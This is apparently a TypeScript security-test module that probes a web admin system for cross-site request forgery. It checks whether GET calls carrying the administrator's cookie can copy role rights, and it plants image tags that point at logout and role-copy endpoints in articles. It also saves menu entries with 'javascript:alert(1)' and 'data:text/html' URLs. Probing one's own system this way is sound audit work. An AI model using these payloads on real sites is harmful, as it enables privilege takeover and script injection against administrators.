import type { AttackPart } from '../attack-parts.ts';
import { formatWireReply } from '../wire/attack-client.ts';
import { callAsPerson, callOrThrow, createRoleWithRights, findRecordByTitle } from './attack-setup-steps.ts';

/** C3: a picture in an article, a mailed link or a foreign page makes the administrator's browser give rights away. */
export const takeoverByCrossSitePicture: AttackPart = async ({ wire, people: { admin } }) => {
  const source = await createRoleWithRights(wire, admin, ['role:read', 'role:write', 'user:read', 'user:write']);
  const target = await createRoleWithRights(wire, admin, []);
  const browser = { ...admin, name: "admin's browser on a foreign page", token: null };
  const headers = { cookie: `AuthToken=${admin.token}` };
  for (const call of ['copyRoleMenu', 'copyRoleDept']) {
    const path = `/api/a/sys/role/${call}/${source}/${target}`;
    const reply = await wire.ask(browser, { method: 'GET', path, headers });
    const held = await callOrThrow(wire, admin, `GET /a/sys/role/queryRoleMenuId/${target}`);
    if (held.length > 0)
      wire.ledger.find('C3', `${call} by a picture gave a role ${held.length} rights`, formatWireReply(reply));
  }
  await pictureInArticle();
  await callInMenu();
  return 'rights by a picture, pictures and menu entries that name a call';

  async function pictureInArticle() {
    const category = await findRecordByTitle(wire, admin, 'contentCategory', {});
    for (const src of [
      '/api/logout',
      `/api/a/sys/role/copyRoleMenu/${source}/${target}`,
      '/image/../logout',
      '\\api\\logout',
    ]) {
      const draft = { title: '图', category: category?.id, content: `<p>x<img src="${src}"></p>` };
      const reply = await callAsPerson(wire, admin, 'POST /form/article/save', draft);
      if (reply.json?.success && /logout|copyRole/.test(reply.json.data.content))
        wire.ledger.find('C3', 'an article keeps a picture that is a call', formatWireReply(reply));
    }
  }

  async function callInMenu() {
    for (const url of [
      '/api/logout',
      'javascript:alert(1)',
      ' javascript:alert(1)',
      'data:text/html,<script>1</script>',
    ]) {
      const draft = { name: '入口', url, openType: '1', type: 'menu', parentId: '-1' };
      const reply = await callAsPerson(wire, admin, 'POST /form/menu/save', draft);
      if (reply.json?.success) {
        wire.ledger.find('C3', `a menu entry leads to ${url.trim().split(':')[0]}`, formatWireReply(reply));
        await callAsPerson(wire, admin, `DELETE /form/menu/${reply.json.data.id}`);
      }
    }
  }
};
